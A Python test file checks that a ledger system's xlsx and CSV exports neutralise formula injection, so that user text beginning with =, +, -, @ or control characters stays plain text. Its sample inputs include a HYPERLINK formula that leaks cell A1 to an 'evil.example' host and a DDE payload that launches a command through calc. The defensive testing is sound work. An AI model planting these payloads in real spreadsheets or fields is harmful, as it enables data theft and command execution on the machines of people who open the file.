"""Formula injection: user texts starting with = + - @ are never live formulas in an exported xlsx or CSV."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from storage.cell_safety import csv_cell, is_formula_like
from storage.models import Appeal, Enterprise
from storage.reports_ledger import HEADERS, export_ledger
from storage.reports_period import parse_period
from storage.reports_stats import Scope
from tests.chat import ChatDriver, Clock
from tests.reports_data import NOW, TODAY, seed_appeals

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


async def _poison(db, ids) -> None:
    async with db.session() as s:
        for key, text in zip(("a1", "a2", "a3", "a4", "a5", "a6"), EVIL):
            a = await s.get(Appeal, ids[key])
            a.description, a.result, a.explanation = text, text, "=CMD|' /C calc'!A0"
            ent = await s.get(Enterprise, a.enterprise_id)
            ent.credit_code = "@" + (ent.credit_code or "")


def test_rule():
    assert all(is_formula_like(t) for t in EVIL) and not is_formula_like("贷款 -50 万") and not is_formula_like(-5)
    assert csv_cell("=1") == "'=1" and csv_cell("正常") == "正常" and csv_cell(12) == 12


async def test_xlsx_has_no_formula_and_keeps_the_text(demo):
    db, refs = demo
    ids = await seed_appeals(db, refs)
    await _poison(db, ids)
    async with db.session() as s:
        data, _ = await export_ledger(s, Scope(), parse_period("2026-03", TODAY), TODAY, generated=NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)
    wb = load_workbook(io.BytesIO(data))
    col = HEADERS.index("诉求内容") + 1
    full = [ws for ws in wb.worksheets[1:] if ws.title != "台账（打印版）"]  # the print sheet has its own columns
    seen = {ws.cell(r, col).value for ws in full for r in range(2, ws.max_row + 1)}
    assert set(EVIL) <= seen  # shown exactly as typed, as text
    assert all(ws.cell(r, col).data_type == "s" for ws in full for r in range(2, ws.max_row + 1))
    printed = wb["台账（打印版）"]
    assert set(EVIL) <= {printed.cell(r, 6).value for r in range(4, printed.max_row + 1)}
    assert all(printed.cell(r, 6).data_type == "s" for r in range(4, printed.max_row + 1))


async def test_csv_cells_are_prefixed(demo):
    db, refs = demo
    ids = await seed_appeals(db, refs)
    await _poison(db, ids)
    chat = ChatDriver(db, clock=Clock(NOW))
    doc = (await chat.send(refs.user_ids["王建国"], "/export csv 2026-03"))[0].document
    rows = list(csv.reader(io.StringIO(doc.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert {"'" + t for t in EVIL} <= set(cells) and "'=CMD|' /C calc'!A0" in cells
